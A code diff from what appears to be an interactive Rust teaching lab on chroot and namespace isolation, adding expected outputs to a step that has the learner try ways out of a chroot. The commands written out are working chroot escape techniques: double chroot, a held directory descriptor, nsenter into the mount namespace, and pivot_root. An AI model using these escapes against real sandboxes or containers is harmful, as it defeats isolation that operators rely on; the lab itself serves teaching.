@@ -85,24 +85,7 @@ pub(crate) const TRY_THE_WAYS_OUT: Step = Step {
         "setns(/proc/self/ns/mnt, CLONE_NEWNS)",
         "open(\"mnt/outside\")",
     ],
-    by_hand: &[
-        hand("unshare -Urm bash"),
-        hand(
-            "PATH=$PATH:/sbin; mount -t tmpfs x /mnt; cd /mnt; mkdir usr proc dev d; cp -a /bin /lib* . 2>/dev/null",
-        ),
-        hand("for i in usr proc dev; do mount --rbind /$i $i; done"),
-        hand(
-            "chroot /mnt ls /; chroot /mnt perl -e 'chroot \"d\"; chdir \"..\" for 1..40; chroot \".\"; exec \"ls /\"'",
-        ),
-        hand(
-            "chroot /mnt perl -e 'open F, \".\"; chroot \"d\"; chdir F;\n\
-             chdir \"..\" for 1..40; chroot \".\"; exec \"ls /\"'",
-        ),
-        hand("chroot /mnt nsenter --mount=/proc/self/ns/mnt ls /"),
-        hand(
-            "pivot_root . .; umount -l .; perl -e 'chroot \"d\"; chdir \"..\" for 1..40; chroot \".\"; exec \"ls /\"'; exit",
-        ),
-    ],
+    by_hand: &[hand("unshare -Urm bash").prints(""), hand("PATH=$PATH:/sbin; mount -t tmpfs x /mnt; cd /mnt; mkdir usr proc dev d; cp -a /bin /lib* . 2>/dev/null").prints(""), hand("for i in usr proc dev; do mount --rbind /$i $i; done").prints(""), hand("chroot /mnt ls -d /etc; chroot /mnt perl -e 'chroot \"d\"; chdir \"..\" for 1..40; chroot \".\"; exec \"ls -d /etc\"'").prints("ENOENT\n/etc"), hand("chroot /mnt perl -e 'open F, \".\"; chroot \"d\"; chdir F;\nchdir \"..\" for 1..40; chroot \".\"; exec \"ls -d /etc\"'").prints("/etc"), hand("chroot /mnt nsenter --mount=/proc/self/ns/mnt ls -d /etc").prints("/etc"), hand("pivot_root . .; umount -l .; perl -e 'chroot \"d\"; chdir \"..\" for 1..40; chroot \".\"; exec \"ls -d /etc\"'; exit").prints("ENOENT"), ],
     claims: &[SECOND_CHROOT, DESCRIPTOR, OWN_NAMESPACE, NO_CAPABILITY, ADMIN],
     run: |lab| {
         // The table comes last, and only where all claims are asked: it gives away answers of this step and the next.
